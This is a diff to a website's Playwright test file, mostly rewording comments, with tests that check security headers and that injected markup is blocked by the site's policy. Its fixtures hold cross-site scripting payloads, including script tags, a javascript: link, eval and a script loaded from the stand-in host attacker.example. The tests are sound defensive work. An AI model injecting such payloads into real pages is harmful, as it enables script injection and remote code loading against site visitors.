@@ -5,7 +5,7 @@ import { allPages, localizePath, pathTo } from "../src/site/paths";
 import { bestGrade, checks, getScore, type Seen } from "./site/observatory";
 import { expect, open, test } from "./site/test";
 
-/** Returns the content of a page as served. */
+/** Returns the input of the checks for a page as served. */
 function seenIn(html: string, headers: Readonly<Record<string, string>>): Seen {
   const all = (pattern: RegExp) => Array.from(html.matchAll(pattern), ([, found = ""]) => found);
   return {
@@ -16,7 +16,7 @@ function seenIn(html: string, headers: Readonly<Record<string, string>>): Seen {
 }
 
 for (const locale of localeCodes) {
-  test(`in ${getLocale(locale).name} every page passes every check of the HTTP Observatory, with its best grade`, async ({
+  test(`in ${getLocale(locale).name} every page passes the HTTP Observatory with its best grade`, async ({
     request,
   }) => {
     const paths = allPages().flatMap((page) => (page.locale === locale ? [page.path] : []));
@@ -48,7 +48,7 @@ declare global {
 
 const elsewhere = "https://attacker.example";
 
-/** Ways in which markup that came into a page could act, each setting `hacked` or asking another host. */
+/** Ways in which injected markup could act; each sets `hacked` or sends a request to another host. */
 const attacks = [
   `<script>window.hacked="script"</script>`,
   `<script src="${elsewhere}/x.js"></script>`,
@@ -70,10 +70,13 @@ const attacks = [
   `<a id="lure" href="javascript:window.hacked='link'">x</a>`,
 ].join("");
 
-/** Opens a page into which markup has come at several places, as if the build had let it through. */
+/**
+ * Opens a page with injected markup at several places, as if the build had failed to escape it. Returns the requests to
+ * the other host.
+ */
 async function openAttacked(page: Page, path: string): Promise<string[]> {
   const asked: string[] = [];
-  // What the policy refuses is named among the requests too, but does not come as far as the network.
+  // Requests that the policy blocks are reported by Playwright, but never reach the network.
   await page.route(`${elsewhere}/**`, async (route) => {
     asked.push(route.request().url());
     await route.abort();
@@ -91,11 +94,11 @@ async function openAttacked(page: Page, path: string): Promise<string[]> {
   return asked;
 }
 
-test.describe("markup that comes into a page", () => {
-  // The browser tells of everything that it refuses.
+test.describe("injected markup", () => {
+  // The browser reports everything that it blocks.
   test.use({ expectedFaults: /./u });
 
-  // One step writes the policy of every page, and each was looked at above: a page of its own, of a list and of text.
+  // The same build step writes every policy, and all were checked above, so three kinds of pages are enough.
   for (const id of ["home", "schools", "about"] as const) {
     test(`does nothing on the page ${id}`, async ({ page }) => {
       const asked = await openAttacked(page, pathTo(id, "hi"));
@@ -108,7 +111,7 @@ test.describe("markup that comes into a page", () => {
   }
 
   for (const path of ["/mark.svg", "/feeds/all.atom"]) {
-    test(`does nothing in ${path}, opened by its address`, async ({ page }) => {
+    test(`does nothing in ${path}, opened directly`, async ({ page }) => {
       const requested: string[] = [];
       await page.route(`${elsewhere}/**`, async (route) => {
         requested.push(route.request().url());
@@ -119,16 +122,16 @@ test.describe("markup that comes into a page", () => {
         await route.fulfill({ response: await route.fetch(), body });
       });
       await page.goto(path);
-      // Whatever it would have asked for has been asked for when the next file has loaded.
+      // All its requests have been sent when the next file has loaded.
       await page.goto("/robots.txt");
       expect(requested).toEqual([]);
     });
   }
 
-  test("cannot be made of a string by the page's own scripts either", async ({ page }) => {
+  test("cannot be created from a string by the page's scripts", async ({ page }) => {
     await open(page, pathTo("rti", "en"));
     const refused = await page.evaluate(async () => {
-      // What is asked from outside may evaluate strings until its first turn is over; the page's own scripts never may.
+      // Code from Playwright may evaluate strings in its first turn; the page's scripts never may.
       await new Promise((resolve) => window.setTimeout(resolve));
       const attempts: Record<string, () => unknown> = {
         innerHTML: () => {
@@ -139,7 +142,7 @@ test.describe("markup that comes into a page", () => {
           script.src = "https://attacker.example/x.js";
           document.head.append(script);
         },
-        // biome-ignore lint/security/noGlobalEval: that it cannot be done is what is tested.
+        // biome-ignore lint/security/noGlobalEval: the test expects it to fail.
         eval: () => window.eval("window.hacked='eval'"),
         function: () => new Function("window.hacked='function'")(),
         timer: () => window.setTimeout("window.hacked='timer'"),
